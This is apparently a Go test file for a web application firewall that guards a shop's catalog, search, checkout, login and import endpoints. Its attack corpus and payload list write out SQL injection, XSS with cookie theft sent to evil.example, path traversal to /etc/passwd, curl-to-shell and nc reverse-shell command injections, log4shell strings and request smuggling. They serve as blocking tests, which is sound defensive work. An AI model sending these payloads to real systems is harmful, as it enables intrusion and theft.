package waf

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// request describes one test request; body is sent with contentType when set.
type request struct {
	name, method, target, contentType, body string
	header                                  map[string]string
}

func (rq request) build() *http.Request {
	var req *http.Request
	if rq.body != "" {
		req = httptest.NewRequest(rq.method, rq.target, strings.NewReader(rq.body))
		req.Header.Set("Content-Type", rq.contentType)
		req.Header.Set("Content-Length", strconv.Itoa(len(rq.body))) // as net/http's server leaves it
	} else {
		req = httptest.NewRequest(rq.method, rq.target, nil)
	}
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	req.Header.Set("Accept", "application/json, text/html;q=0.9")
	req.Header.Set("Accept-Language", "en-GB,en;q=0.8")
	for k, v := range rq.header {
		req.Header.Set(k, v)
	}
	return req
}

func q(s string) string { return url.QueryEscape(s) }

const jsonType, formType, ndjsonType = "application/json", "application/x-www-form-urlencoded", "application/x-ndjson"

// importLines is a catalog bulk import (docs/CATALOG.md) of realistic products, one per line, the
// descriptions in the admin editor's HTML and prose; extra lines go second, to be inspected
// among the others.
func importLines(extra ...string) string {
	lines := []string{
		`{"slug":"mens-linen-shirt","title":"Men's linen shirt","brand":"Basics Co","description":"<p>Soft <strong>100% linen</strong> shirt &mdash; breathable.</p><ul><li>Machine wash at 30&deg;</li><li>Union-made in Portugal</li></ul><p><a href=\"/c/shirts\">More shirts</a> &amp; <em>sizes S-XXL</em>.</p>","categories":["clothing","shirts"],"attributes":{"material":"linen","fit":"regular"},"images":[{"url":"/media/ls-blu.jpg","alt":"Blue linen shirt"}],"status":"active","variants":[{"sku":"LS-BLU-M","price":{"amount":4999,"currency":"EUR"},"attributes":{"size":"M","colour":"blue"}},{"sku":"LS-BLU-L","price":{"amount":4999,"currency":"EUR"},"attributes":{"size":"L","colour":"blue"}}]}`,
	}
	lines = append(lines, extra...)
	lines = append(lines,
		`{"slug":"stoneware-mug","title":"Stoneware mug, 350 ml","brand":"Quill Press","description":"<h2>Stoneware mug</h2><p><img src=\"/media/mug.png\" alt=\"Blue mug, 350 ml\" width=\"400\"></p><p>See the <a href=\"https://example.com/care?lang=en&amp;v=2\" title=\"care guide\">care guide</a>. Dishwasher-safe; don't microwave it &gt; 2 min.</p>","categories":["home"],"status":"draft","variants":[{"sku":"MUG-350-BL","price":{"amount":1450,"currency":"EUR"}}]}`,
		`{"id":"0190c3a2-7d1e-7c3b-9a55-3f0e2b9d4c11","slug":"rock-n-roll-tee","title":"Rock 'n' Roll Tee","description":"100% organic cotton; select your size below. Order by size, then drop in the cart.","categories":["clothing"],"status":"active","variants":[{"sku":"TEE-M","price":{"amount":2500,"currency":"EUR"}}]}`,
		"",
	)
	return strings.Join(lines, "\n")
}

// attacks are sent to catalog, search, checkout and login; every one must be blocked.
var attacks = []request{
	// SQL injection
	{name: "sqli tautology in search", method: "GET", target: "/api/v1/search?q=" + q("shoes' OR '1'='1' --")},
	{name: "sqli union in catalog filter", method: "GET", target: "/api/v1/products?category=" + q("x' UNION SELECT username,password FROM users--")},
	{name: "sqli sleep in sort", method: "GET", target: "/api/v1/products?sort=" + q("price;SELECT pg_sleep(10)")},
	{name: "sqli stacked in search", method: "GET", target: "/api/v1/search?q=" + q("1; DROP TABLE products; --")},
	{name: "sqli in login json", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
		body: `{"email":"admin@example.com' OR 1=1 --","password":"x"}`},
	{name: "sqli in checkout json", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
		body: `{"cart_id":"1 UNION ALL SELECT NULL,version(),NULL--","email":"a@b.co"}`},
	{name: "sqli in login form", method: "POST", target: "/api/v1/auth/login", contentType: formType,
		body: "email=" + q("' or 1=1#") + "&password=x"},
	// XSS
	{name: "xss script in search", method: "GET", target: "/api/v1/search?q=" + q("<script>alert(document.cookie)</script>")},
	{name: "xss event handler in catalog", method: "GET", target: "/api/v1/products?category=" + q(`"><img src=x onerror=alert(1)>`)},
	{name: "xss javascript uri in checkout", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
		body: `{"shipping":{"name":"<svg/onload=alert(1)>","line1":"javascript:alert(1)"}}`},
	{name: "xss in login", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
		body: `{"email":"<script>fetch('//evil.example/'+document.cookie)</script>","password":"x"}`},
	// path traversal and local files
	{name: "traversal in product path", method: "GET", target: "/api/v1/products/..%2f..%2f..%2fetc%2fpasswd"},
	{name: "traversal in query", method: "GET", target: "/api/v1/products?image=" + q("../../../../etc/passwd")},
	{name: "traversal to env file", method: "GET", target: "/api/v1/search?q=" + q("/proc/self/environ")},
	// command injection
	{name: "cmd injection in search", method: "GET", target: "/api/v1/search?q=" + q("shoes; cat /etc/passwd")},
	{name: "cmd substitution in checkout", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
		body: `{"note":"$(curl http://evil.example/x.sh | sh)"}`},
	{name: "cmd pipe in login", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
		body: `{"email":"a@b.co","password":"x | nc -e /bin/sh evil.example 4444"}`},
	// protocol attacks
	{name: "smuggled request in a body field", method: "POST", target: "/api/v1/checkout", contentType: formType,
		body: "note=" + q("x\r\n\r\nGET /api/v1/admin/orders HTTP/1.1\r\nHost: shop\r\n")},
	{name: "response splitting in query", method: "GET", target: "/api/v1/search?q=" + q("x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK")},
	{name: "header injection via CRLF in query", method: "GET", target: "/api/v1/products?next=" + q("x\r\nSet-Cookie: session=evil")},
	{name: "null byte in query", method: "GET", target: "/api/v1/products?slug=" + q("shirt\x00.php")},
	{name: "null byte in json body", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
		body: `{"email":"a@b.co\u0000","password":"x\u0000' or 1=1"}`},
	{name: "java deserialization / log4shell", method: "GET", target: "/api/v1/search?q=" + q("${jndi:ldap://evil.example/a}")},
	{name: "php wrapper", method: "GET", target: "/api/v1/products?file=" + q("php://filter/convert.base64-encode/resource=index.php")},
	{name: "scanner user agent", method: "GET", target: "/api/v1/products", header: map[string]string{"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
	{name: "method not allowed by setup", method: "TRACE", target: "/api/v1/products"},
	{name: "remote file inclusion", method: "GET", target: "/api/v1/products?template=" + q("http://203.0.113.7/shell.txt?")},
	// inside the lines of a catalog import (10007 lets its NDJSON in, to be inspected line by line)
	{name: "sqli in an import line", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"x' UNION SELECT email,password_hash FROM users--"}`)},
	{name: "xss in an import description", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"X","description":"<p>Nice</p><script>fetch('//evil.example/'+document.cookie)</script>"}`)},
	{name: "event handler in an import description", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"X","description":"<img src=x onerror=alert(1)>"}`)},
	{name: "cmd injection in an import variant", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"X","variants":[{"sku":"$(curl http://evil.example/x.sh | sh)"}]}`)},
	{name: "traversal in an import image", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"X","images":[{"url":"../../../../etc/passwd"}]}`)},
	{name: "log4shell in an import attribute", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"X","attributes":{"material":"${jndi:ldap://evil.example/a}"}}`)},
	{name: "import line that is not JSON", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x","title":"<script>alert(1)</script>`)},
	{name: "second document hidden on an import line", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		body: importLines(`{"slug":"x"} {"description":"<script>alert(1)</script>"}`)},
}

// legitimate are what shoppers and admins really send; none may be blocked.
var legitimate = []request{
	{name: "product list with filters", method: "GET", target: "/api/v1/products?category=clothing&sort=price_asc&limit=20&cursor=eyJwIjoxMjM0fQ"},
	{name: "product by slug", method: "GET", target: "/api/v1/products/linen-shirt-blue"},
	{name: "search with apostrophe", method: "GET", target: "/api/v1/search?q=" + q("men's shoes")},
	{name: "search with quotes and ampersand", method: "GET", target: "/api/v1/search?q=" + q(`"rock & roll" t-shirt`) + "&price_min=1000&price_max=5000&sort=relevance&page=2"},
	{name: "search in another script", method: "GET", target: "/api/v1/search?q=" + q("café crème — größe 42, 日本茶")},
	{name: "search with a hyphen and slash", method: "GET", target: "/api/v1/search?q=" + q("usb-c 65w charger / laptop")},
	{name: "storefront page", method: "GET", target: "/p/linen-shirt-blue", header: map[string]string{"Accept": "text/html"}},
	{name: "register with plus email and symbol password", method: "POST", target: "/api/v1/auth/register", contentType: jsonType,
		body: `{"email":"jane.doe+shop@example.com","password":"C0rrect-H0rse;b@ttery'staple!","name":"Jane O'Neil"}`},
	{name: "login with symbol password", method: "POST", target: "/api/v1/auth/login", contentType: jsonType,
		body: `{"email":"o'brien+orders@example.co.uk","password":"p@ss' OR w0rd\"--;<>&|$"}`},
	{name: "login form", method: "POST", target: "/account/login", contentType: formType,
		body: "email=" + q("jane+1@example.com") + "&password=" + q(`S3cr3t!#%&*()_+=-{}[]:;"'<>,.?/~`) + "&csrf=k1Zx9f"},
	{name: "admin product with html description", method: "POST", target: "/api/v1/admin/products", contentType: jsonType,
		header: map[string]string{"Authorization": "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"},
		body:   `{"name":"Men's linen shirt","slug":"mens-linen-shirt","description":"<p>Soft <strong>100% linen</strong> shirt &mdash; breathable.</p><ul><li>Machine wash at 30&deg;</li><li>Made in Portugal</li></ul><p><a href=\"/c/shirts\">More shirts</a> &amp; <em>sizes S-XXL</em>.</p>","attributes":{"material":"linen","fit":"regular"},"variants":[{"sku":"LS-BLU-M","price":{"amount":4999,"currency":"EUR"}}]}`},
	{name: "admin product update with select-like words", method: "PUT", target: "/api/v1/admin/products/mens-linen-shirt", contentType: jsonType,
		body: `{"name":"Select from our union of colours","description":"Order by size, then drop in the cart. Update: new table of sizes."}`},
	{name: "admin inventory put", method: "PUT", target: "/api/v1/admin/inventory/LS-BLU-M", contentType: jsonType, body: `{"warehouse":"main","on_hand":25}`},
	{name: "cart add item", method: "POST", target: "/api/v1/carts/c_01HZX/items", contentType: jsonType, body: `{"sku":"LS-BLU-M","quantity":2}`},
	{name: "cart patch quantity", method: "PATCH", target: "/api/v1/carts/c_01HZX/items/LS-BLU-M", contentType: jsonType, body: `{"quantity":3}`},
	{name: "cart remove item", method: "DELETE", target: "/api/v1/carts/c_01HZX/items/LS-BLU-M"},
	{name: "checkout", method: "POST", target: "/api/v1/checkout", contentType: jsonType,
		header: map[string]string{"Idempotency-Key": "7f9c2ba4-e88f-11ee-a506-0242ac120002"},
		body:   `{"cart_id":"c_01HZX","email":"jane+shop@example.com","shipping_address":{"name":"Jane O'Neil","line1":"12 St. Mary's Rd.","line2":"Flat 3/B","city":"Saint-Étienne","postal_code":"42000","country":"FR"},"payment":{"card_number":"4242424242424242","exp":"12/30","cvc":"123"},"note":"Please leave it at the door - thanks!"}`},
	{name: "checkout page form", method: "POST", target: "/checkout", contentType: formType,
		body: "name=" + q("Seán O'Connor-Smith") + "&line1=" + q("1 Main St. #4") + "&email=" + q("sean+x@example.ie") + "&note=" + q("Ring twice; dog's friendly :)")},
	{name: "refresh token", method: "POST", target: "/api/v1/auth/refresh", contentType: jsonType, body: `{"refresh_token":"rt_3J8sK2-lQ_9x=="}`},
	{name: "jwks", method: "GET", target: "/.well-known/jwks.json"},
	{name: "admin order refund", method: "POST", target: "/api/v1/admin/orders/o_123/refund", contentType: jsonType, body: `{"amount":1500,"reason":"Item arrived damaged; customer's photo attached"}`},
	{name: "search for a book title with sql words", method: "GET", target: "/api/v1/search?q=" + q("O'Reilly's SQL cookbook: select, union & drop-in tips")},
	{name: "search with percent and plus", method: "GET", target: "/api/v1/search?q=" + q("100% cotton c++ 1/2\" <3 mug")},
	{name: "browser session cookie", method: "GET", target: "/account/orders",
		header: map[string]string{"Cookie": "pasar_session=Zm9vYmFyLWJhei0xMjM0NTY3ODkw.c2ln-_; pasar_csrf=a1B2c3D4e5", "Referer": "https://shop.example.com/cart?x=1"}},
	{name: "admin description with image and link", method: "POST", target: "/api/v1/admin/products", contentType: jsonType,
		body: `{"name":"Mug","description":"<h2>Stoneware mug</h2><p><img src=\"/media/mug.png\" alt=\"Blue mug, 350 ml\" width=\"400\"></p><p>See the <a href=\"https://example.com/care?lang=en&amp;v=2\" title=\"care guide\">care guide</a>. Dishwasher-safe; don't microwave it &gt; 2 min.</p><blockquote>Best mug I've owned</blockquote>"}`},
	{name: "conditional get", method: "GET", target: "/api/v1/products/linen-shirt-blue", header: map[string]string{"If-None-Match": `W/"9f86d081"`}},
	// Storefront pages (internal/web): the forms as a browser posts them, with the field names the
	// pages use, and the page queries filters and pagination make.
	{name: "storefront search page with facets", method: "GET", target: "/search?q=" + q("men's boots & socks") + "&brand=" + q("Basics Co") + "&price=2500-5000&sort=price_asc&page=2&in_stock=1", header: map[string]string{"Accept": "text/html"}},
	{name: "storefront category page", method: "GET", target: "/c/home?brand=" + q("Quill Press") + "&brand=Apex&sort=newest", header: map[string]string{"Accept": "text/html"}},
	{name: "storefront add to cart form", method: "POST", target: "/cart/items", contentType: formType,
		body: "slug=" + q("basics-co-classic-tee-897-59") + "&sku=TSH-000059-03&quantity=2"},
	{name: "storefront cart quantity and discount forms", method: "POST", target: "/cart/items/TSH-000059-03", contentType: formType,
		body: "csrf_token=" + q("99uRtGY6v63a18-mP6bS2MEWg9r_9aej") + "&quantity=0"},
	{name: "storefront discount code form", method: "POST", target: "/cart/discount", contentType: formType, body: "code=SUMMER_25-OFF"},
	{name: "storefront checkout form", method: "POST", target: "/checkout", contentType: formType,
		body: "csrf_token=" + q("99uRtGY6v63a18-mP6bS2MEWg9r_9aej") + "&key=0f3c9a1b2d4e5f60718293a4b5c6d7e8&email=" + q("o'brien+orders@example.co.uk") +
			"&" + q("shipping_address.name") + "=" + q("Seán O'Brien-Smith") + "&" + q("shipping_address.line1") + "=" + q("12 O'Connell St, #4") +
			"&" + q("shipping_address.line2") + "=" + q("Flat 2; 3 Queen's Walk") + "&" + q("shipping_address.city") + "=" + q("Saint-Étienne") +
			"&" + q("shipping_address.region") + "=&" + q("shipping_address.postal_code") + "=42000&" + q("shipping_address.country") + "=FR" +
			"&shipping_method=standard&" + q("payment.card_number") + "=" + q("4242 4242 4242 4242") + "&" + q("payment.exp") + "=" + q("12/30") + "&" + q("payment.cvc") + "=123"},
	{name: "storefront register form", method: "POST", target: "/account/register", contentType: formType,
		body: "next=" + q("/checkout") + "&email=" + q("jane.o'neil+shop@example.com") + "&password=" + q(`C0rrect-H0rse;b@ttery'staple! OR 1`)},
	{name: "storefront password reset form", method: "POST", target: "/account/reset/confirm", contentType: formType,
		body: "token=" + q("tok/en+1==") + "&password=" + q("new passphrase -- with dashes; and 'quotes'")},
	{name: "admin page product form with sql words in prose", method: "POST", target: "/admin/products/0190c3a2-7d1e-7c3b-9a55-3f0e2b9d4c11", contentType: formType,
		body: "csrf_token=k1Zx9f&version=3&title=" + q("Rock 'n' Roll Tee") + "&description=" + q("<ul><li>Union-made in Portugal</li><li>100% organic cotton; select your size below</li></ul>") +
			"&" + q("variants[0].sku") + "=TEE-M&" + q("variants[0].price.amount") + "=25.00"},
	{name: "admin catalog bulk import", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
		header: map[string]string{"Authorization": "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"},
		body:   importLines(`{"slug":"oak-desk","title":"Oak desk","brand":"Apex","description":"<p><strong>Solid oak</strong>, 120&times;60 cm.</p><p><img src=\"/media/desk.jpg\" alt=\"Oak desk\"></p>","categories":["home","furniture"],"attributes":{"width_cm":120,"depth_cm":60},"status":"active","variants":[{"sku":"DESK-OAK","price":{"amount":34900,"currency":"EUR"}}]}`)},
	{name: "admin catalog bulk import with charset and CRLF", method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType + "; charset=utf-8",
		body: strings.ReplaceAll(importLines(), "\n", "\r\n")},
}

func TestAttackCorpusIsBlocked(t *testing.T) {
	t.Parallel()
	h := testWAF(t, Block, nil).Wrap(echo)
	for _, tc := range attacks {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if rec := serve(h, tc.build()); rec.Code < 400 || rec.Header().Get("Pasar-Incident") == "" {
				t.Errorf("%s %s: status %d, want it blocked", tc.method, tc.target, rec.Code)
			}
		})
	}
}

func TestLegitimateRequestsPass(t *testing.T) {
	t.Parallel()
	h := testWAF(t, Block, nil).Wrap(echo)
	for _, tc := range legitimate {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if rec := serve(h, tc.build()); rec.Code != http.StatusOK {
				t.Errorf("%s %s: status %d: %s", tc.method, tc.target, rec.Code, rec.Body)
			}
		})
	}
}

// TestExclusionsStayNarrow checks that each exclusion lifts only what it names: the HTML a
// description may hold passes on admin product routes, script in it does not, and the same HTML
// elsewhere is still flagged.
func TestExclusionsStayNarrow(t *testing.T) {
	t.Parallel()
	h := testWAF(t, Block, nil).Wrap(echo)
	html := `{"description":"<p><img src=\"/media/mug.png\" alt=\"Blue mug\"></p>"}`
	prose := `{"description":"Union-made in Portugal. 100% cotton; select your size below."}`
	for _, tc := range []struct {
		name, target, body string
		wantBlocked        bool
	}{
		{"html description on admin products", "/api/v1/admin/products", html, false},
		{"html description on an admin product", "/api/v1/admin/products/mug", html, false},
		{"script in an admin description", "/api/v1/admin/products", `{"description":"<script>alert(1)</script>"}`, true},
		{"event handler in an admin description", "/api/v1/admin/products", `{"description":"<img src=x onerror=alert(1)>"}`, true},
		{"html in another admin field", "/api/v1/admin/products", `{"name":"<p><img src=\"/m.png\" alt=\"x\"></p>"}`, true},
		{"html description outside admin", "/api/v1/checkout", html, true},
		{"sql words in admin description prose", "/api/v1/admin/products", prose, false},
		{"sql words in prose outside admin", "/api/v1/checkout", prose, true},
		{"sql words in another admin field", "/api/v1/admin/products", `{"title":"100% cotton; select your size"}`, true},
		{"sql injection in an admin description", "/api/v1/admin/products", `{"description":"x' UNION SELECT password FROM users--"}`, true},
		{"stacked query in an admin description", "/api/v1/admin/products", `{"description":"1; DROP TABLE products; --"}`, true},
		{"html description on a look-alike path", "/api/v1/admin/productsx", html, true},
		// 10003-10006: 942100's "%uXXXX" artefact is lifted for checkout's street lines only.
		{"accented street line at checkout", "/api/v1/checkout", street("line1", "12 Rue de l'Église; Apt #3"), false},
		{"accented second street line at checkout", "/api/v1/checkout", street("line2", "12 Rue de l'Église; Apt #3"), false},
		{"the same text as the name at checkout", "/api/v1/checkout", street("name", "12 Rue de l'Église; Apt #3"), true},
		{"the same street line elsewhere", "/api/v1/account/addresses", street("line1", "12 Rue de l'Église; Apt #3"), true},
		{"tautology in an accented street line", "/api/v1/checkout", street("line1", "Église' OR 'a'='a"), true},
		{"comment truncation in a street line", "/api/v1/checkout", street("line1", "admin'--"), true},
		{"full-width quotes in a street line", "/api/v1/checkout", street("line2", "\uff07 OR \uff071\uff07=\uff071"), true},
		{"url-encoded tautology in a street line", "/api/v1/checkout", street("line1", "%27%20OR%20%271%27%3D%271"), true},
		{"null bytes in a street line", "/api/v1/checkout", street("line1", "x\u0000' or 1=1 --"), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			rec := serve(h, request{method: "POST", target: tc.target, contentType: jsonType, body: tc.body}.build())
			if blocked := rec.Code >= 400 && rec.Header().Get("Pasar-Incident") != ""; blocked != tc.wantBlocked {
				t.Errorf("status %d, want blocked=%v", rec.Code, tc.wantBlocked)
			}
		})
	}
}

// TestImportExclusionStaysNarrow checks 10007: NDJSON gets in only as a POST to the import, is
// read line by line there, and the description exclusions reach an import line's description and
// nothing else.
func TestImportExclusionStaysNarrow(t *testing.T) {
	t.Parallel()
	h := testWAF(t, Block, nil).Wrap(echo)
	const imp = "/api/v1/admin/products/import"
	html := `{"slug":"mug","description":"<p><img src=\"/media/mug.png\" alt=\"Blue mug\"></p>"}`
	for _, tc := range []struct {
		name, method, target, contentType, body string
		want                                    int // status
	}{
		{"html description in an import", "POST", imp, ndjsonType, importLines(html), 200},
		{"sql words in import description prose", "POST", imp, ndjsonType, importLines(`{"slug":"tee","description":"Union-made in Portugal. 100% cotton; select your size below."}`), 200},
		{"html in an import title", "POST", imp, ndjsonType, importLines(`{"slug":"mug","title":"<p><img src=\"/m.png\" alt=\"x\"></p>"}`), 403},
		{"html in a nested description", "POST", imp, ndjsonType, importLines(`{"slug":"mug","attributes":{"description":"<p><img src=\"/m.png\" alt=\"x\"></p>"}}`), 403},
		{"sql injection in an import description", "POST", imp, ndjsonType, importLines(`{"slug":"x","description":"x' UNION SELECT password FROM users--"}`), 403},
		{"ndjson on another admin route", "POST", "/api/v1/admin/products", ndjsonType, html, 403},
		{"ndjson on a look-alike route", "POST", imp + "x", ndjsonType, html, 403},
		{"ndjson put to the import", "PUT", imp, ndjsonType, html, 403},
		{"another content type on the import", "POST", imp, "application/x-ndjson-seq", html, 403},
		{"jsonl on the import", "POST", imp, "application/jsonl", html, 403},
		// Not one JSON document: refused as before, send application/x-ndjson.
		{"json lines sent as application/json", "POST", imp, jsonType, importLines(), 400},
		{"a broken import line", "POST", imp, ndjsonType, importLines(`{"slug":"x",`), 400},
		// Inspected in full or refused: past SecArgumentsLimit (1,000 values, some 40 to 100 products).
		{"an import over the argument limit", "POST", imp, ndjsonType, strings.Repeat(importLines(), 30), 400},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			rec := serve(h, request{method: tc.method, target: tc.target, contentType: tc.contentType, body: tc.body}.build())
			if rec.Code != tc.want || (tc.want != 200) != (rec.Header().Get("Pasar-Incident") != "") {
				t.Errorf("status %d, want %d: %s", rec.Code, tc.want, rec.Body)
			}
		})
	}
}

// addresses are street lines shoppers in many countries type at checkout: apostrophes before
// accented letters, semicolons, "#", "º", slashes, ampersands and non-Latin scripts.
var addresses = []string{
	"12 Rue de l'Église; Apt #3",
	"7 Rue de l'Église; Apt #3/B",
	"Apt #3; 12 Rue de l'Église",
	"12 Rue de l'Église; Apt #3; Code: 4B12",
	"Chemin de l'Érable #12",
	"Rue de l'Hôpital; Bât. 2",
	"Quai de l'Hôtel de Ville; Apt #3",
	"Av. d'Iéna 5; 2ème étage",
	"c/o Jean-Luc D'Arcy; 7 Rue de l'Union",
	"Rue de l'Église 12; Appt #3; 1000 Bruxelles",
	"Hof 3; l'Été #4",
	"Via dell'Università 4; scala B",
	"Piazza dell'Unità d'Italia 1; int. 3",
	"Carrer de l'Àngel 3; 2n 1a",
	"Carrer d'Aragó 255; àtic 2a",
	"Calle de Alcalá, 48; 3º izq.",
	"Calle O'Donnell 10; 4º B",
	"Rua D'Ávila 12; 3º Dto",
	"São Paulo; Rua dos Três Irmãos #44",
	"Bahnhofstraße 3; c/o Müller",
	"Hauptstr. 5; Hinterhaus, 3. OG links",
	"Östra Hamngatan 12; lgh #1102",
	"Skt. Annæ Plads 5; 2. th.",
	"'s-Gravenhage; Lange Voorhout 34",
	"ul. Św. Marcina 12/3; kl. B",
	"Κηφισίας 12; Αθήνα",
	"ул. Тверская, д. 7; кв. 12",
	"北京市朝阳区建国路88号; 3号楼",
	"東京都千代田区丸の内1-1; 5F",
	"شارع الملك فهد 12; شقة 4",
	"רחוב הרצל 12; דירה 4",
	"1600 Amphitheatre Pkwy; Bldg #40",
	"PO Box 12; Unit #5/6",
	"Flat 5/7; 12 O'Neill's Court",
	"Plot #7; Near St. Mary's Church",
	"Unit #3 - 45 Smith St",
	// A word after ";" that is also a Unix or PowerShell command (10008-10011).
	"Bldg 2; Rm 301",
	"Bldg 2; RM 301; Desk 4",
	"Floor 3; Rm. 3B",
	"Apt 2; Del Mar",
	"Unit 4; Cd 7",
	"Hall B; Dir. office 2",
	"Block 5; Ls 2",
	"12 Main St; Ren 3",
	"Casa 3; Gal 4",
}

// TestShippingAddressesPass sends every address as each street line of a checkout, through the
// API (JSON) and the storefront form: none may be blocked.
func TestShippingAddressesPass(t *testing.T) {
	t.Parallel()
	h := testWAF(t, Block, nil).Wrap(echo)
	for _, a := range addresses {
		for _, rq := range []request{
			{method: "POST", target: "/api/v1/checkout", contentType: jsonType,
				body: `{"cart_id":"c_01HZX","email":"a@example.com","shipping_address":{"name":"Jane Roe","line1":` + js(a) + `,"line2":` + js(a) + `,"city":"Lyon","postal_code":"69001","country":"FR"}}`},
			{method: "POST", target: "/checkout", contentType: formType,
				body: q("shipping_address.line1") + "=" + q(a) + "&" + q("shipping_address.line2") + "=" + q(a) + "&" + q("shipping_address.city") + "=Lyon"},
		} {
			if rec := serve(h, rq.build()); rec.Code != http.StatusOK {
				t.Errorf("%q on %s: status %d: %s", a, rq.target, rec.Code, rec.Body)
			}
		}
	}
}

// street is a checkout body whose shipping address has value in field; value is a JSON string's
// contents, so it may hold JSON escapes.
func street(field, value string) string {
	return `{"cart_id":"c_01HZX","shipping_address":{"` + field + `":"` + value + `","city":"Lyon","country":"FR"}}`
}

// payloads are one or more attacks per class, each sent by TestEveryAttackClassOnEveryEndpoint in
// the field a shopper controls on each of catalog, search, checkout and login.
var payloads = []struct{ class, value string }{
	{"sql injection", "' OR '1'='1' --"},
	{"sql injection", "1 UNION SELECT username, password FROM users--"},
	{"sql injection", "x'; SELECT pg_sleep(10)--"},
	{"xss", "<script>alert(document.cookie)</script>"},
	{"xss", `"><img src=x onerror=alert(1)>`},
	{"xss", "<svg/onload=alert(1)>"},
	{"path traversal", "../../../../etc/passwd"},
	{"path traversal", "..\\..\\..\\windows\\win.ini"},
	{"command injection", "x; cat /etc/passwd"},
	{"command injection", "$(curl http://evil.example/x.sh | sh)"},
	{"command injection", "x | nc -e /bin/sh evil.example 4444"},
	{"protocol attack", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"},
	{"protocol attack", "x\r\n\r\nGET /api/v1/admin/orders HTTP/1.1\r\nHost: shop\r\n"},
	{"protocol attack", "${jndi:ldap://evil.example/a}"},
}

// endpoints are the fields a shopper controls on each of catalog and search (query), checkout
// and login (JSON and form bodies), each building a request that carries v there.
var endpoints = []struct {
	name  string
	build func(v string) request
}{
	{"catalog", func(v string) request {
		return request{method: "GET", target: "/api/v1/products?category=" + q(v) + "&limit=20"}
	}},
	{"search", func(v string) request { return request{method: "GET", target: "/api/v1/search?q=" + q(v)} }},
	{"checkout json", func(v string) request {
		return request{method: "POST", target: "/api/v1/checkout", contentType: jsonType,
			body: `{"cart_id":"c_01HZX","email":"a@example.com","shipping_address":{"name":` + js(v) + `,"line1":"1 High St","city":"Leeds","postal_code":"LS1","country":"GB"}}`}
	}},
	{"checkout form", func(v string) request {
		return request{method: "POST", target: "/checkout", contentType: formType, body: "name=" + q(v) + "&line1=1+High+St"}
	}},
	// The street lines have their own exclusion (pasar-exclusions.conf, 10003-10006).
	{"checkout json street line", func(v string) request {
		return request{method: "POST", target: "/api/v1/checkout", contentType: jsonType,
			body: `{"cart_id":"c_01HZX","email":"a@example.com","shipping_address":{"name":"Jane Roe","line1":` + js(v) + `,"city":"Leeds","postal_code":"LS1","country":"GB"}}`}
	}},
	{"checkout form street line", func(v string) request {
		return request{method: "POST", target: "/checkout", contentType: formType,
			body: q("shipping_address.name") + "=Jane+Roe&" + q("shipping_address.line1") + "=1+High+St&" + q("shipping_address.line2") + "=" + q(v)}
	}},
	{"catalog import line", func(v string) request {
		return request{method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
			body: importLines(`{"slug":"x","title":` + js(v) + `,"status":"draft"}`)}
	}},
	// The description has its own exclusions (10001, 10002).
	{"catalog import description", func(v string) request {
		return request{method: "POST", target: "/api/v1/admin/products/import", contentType: ndjsonType,
			body: importLines(`{"slug":"x","title":"X","description":` + js(v) + `}`)}
	}},
	{"login json", func(v string) request {
		return request{method: "POST", target: "/api/v1/auth/login", contentType: jsonType, body: `{"email":` + js(v) + `,"password":"x"}`}
	}},
	{"login form", func(v string) request {
		return request{method: "POST", target: "/account/login", contentType: formType, body: "email=" + q(v) + "&password=x"}
	}},
}

// js quotes v as a JSON string.
func js(v string) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// TestEveryAttackClassOnEveryEndpoint sends every payload to every endpoint: all must be blocked.
func TestEveryAttackClassOnEveryEndpoint(t *testing.T) {
	t.Parallel()
	h := testWAF(t, Block, nil).Wrap(echo)
	for _, p := range payloads {
		for _, e := range endpoints {
			rq := e.build(p.value)
			if rec := serve(h, rq.build()); rec.Code < 400 || rec.Header().Get("Pasar-Incident") == "" {
				t.Errorf("%s %q on %s: status %d, want it blocked", p.class, p.value, e.name, rec.Code)
			}
		}
	}
}
